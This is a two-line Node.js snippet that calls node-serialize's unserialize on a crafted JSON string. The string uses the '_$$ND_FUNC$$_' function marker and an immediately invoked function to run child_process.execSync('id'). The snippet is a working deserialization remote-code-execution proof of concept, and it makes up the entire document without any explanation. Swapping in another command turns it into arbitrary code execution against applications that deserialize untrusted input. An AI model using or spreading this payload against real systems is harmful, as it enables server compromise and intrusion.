const serialize = require('node-serialize');
serialize.unserialize('{"rce":"_$$ND_FUNC$$_function(){require(\"child_process\").execSync(\"id\")}()"}');
